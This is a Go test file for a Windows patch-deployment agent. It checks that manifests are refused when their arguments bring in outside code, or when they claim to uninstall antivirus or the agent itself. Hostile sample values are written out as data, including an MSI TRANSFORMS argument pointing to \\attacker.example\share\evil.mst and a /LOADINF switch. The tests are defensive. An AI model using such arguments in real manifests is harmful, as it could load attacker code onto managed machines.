//go:build !windows

package winpkg

import (
	"strings"
	"testing"

	"github.com/fettlehq/fettle/internal/deploy"
	"github.com/fettlehq/fettle/internal/inventory"
	"github.com/fettlehq/fettle/internal/patch"
	"github.com/fettlehq/fettle/internal/run"
)

// TestTrustRow11StrayCommand: even a signed catalog has no genuine file run
// with words that bring other code, and none is put back with such.
func TestTrustRow11StrayCommand(t *testing.T) {
	w := &world{listed: []inventory.Package{row("a", "2.0")}}
	in := New(run.OS{}, w.installer().stock, map[string]Kind{"msi": w, "exe": w})
	for _, install := range []patch.Manifest{
		{Kind: "msi", Argv: []string{`TRANSFORMS=\\attacker.example\share\evil.mst`}, UninstallArgv: []string{"{uninstall}"}},
		{Kind: "exe", Argv: []string{"{payload}", "/S"}, UninstallArgv: []string{"{payload}", `/LOADINF=C:\Users\Public\x`}},
	} {
		for _, op := range []deploy.Operation{deploy.Install, deploy.Rollback} {
			p := item("a", "3.0")
			if op == deploy.Rollback {
				p = item("a", "2.0")
			}
			p.Install = install
			job := w.job(t, p)
			job.Operation = op
			res, err := in.Install(t.Context(), job, silent)
			if err != nil || len(res.Refused) != 1 || !strings.Contains(res.Refused[0].Reason, "so nothing of it is run") || len(w.calls) > 0 {
				t.Errorf("%s of %+v: %v %+v %v", op, install, err, res, w.calls)
			}
		}
	}
}

// TestTrustRow11ClaimedProducts: a manifest that claims other makers' products
// has none of them uninstalled for its own, and never the agent.
func TestTrustRow11ClaimedProducts(t *testing.T) {
	shield := inventory.Package{Kind: "arp", Name: "Shield", Arch: "amd64", Version: "1.0", Title: "Virus Shield", Publisher: "Guard"}
	own := inventory.Package{Kind: "arp", Name: "{11111111-1111-1111-1111-111111111111}", Arch: "amd64", Version: "1.0", Title: "Fettle Agent", Publisher: "Fettle", UpgradeCode: agentFamily}
	old := row("a", "1.0")
	old.Name = "a-old"
	for name, tc := range map[string]struct {
		listed []inventory.Package
		claims []patch.Item
		op     deploy.Operation
		says   string
	}{
		"a scanner":        {[]inventory.Package{row("a", "1.0"), shield}, []patch.Item{{Kind: "arp", Name: "Shield", Version: "3.0"}}, deploy.Install, "do not belong together"},
		"the agent":        {[]inventory.Package{own}, []patch.Item{{Kind: "upgrade", Name: agentFamily, Version: "3.0"}}, deploy.Install, "the agent itself"},
		"the agent, taken": {[]inventory.Package{own}, []patch.Item{{Kind: "upgrade", Name: agentFamily, Version: "1.0"}}, deploy.Rollback, "the agent itself"},
	} {
		t.Run(name, func(t *testing.T) {
			w := &world{listed: tc.listed}
			p := item("a", "3.0")
			p.Items = append(p.Items, tc.claims...)
			if tc.op == deploy.Rollback {
				p.Items = tc.claims
			}
			p.Install.Replace = patch.ReplaceUninstall
			job := w.job(t, p)
			job.Operation = tc.op
			plan, err := w.installer().Plan(t.Context(), job)
			if err != nil || len(plan.Refused) != 1 || !strings.Contains(plan.Refused[0].Reason, tc.says) || len(plan.Changes) > 0 {
				t.Errorf("%v %+v", err, plan)
			}
		})
	}
	// Two rows of one product are one product.
	if why := strangers([]inventory.Package{row("a", "1.0"), old}); why != "" {
		t.Error(why)
	}
}
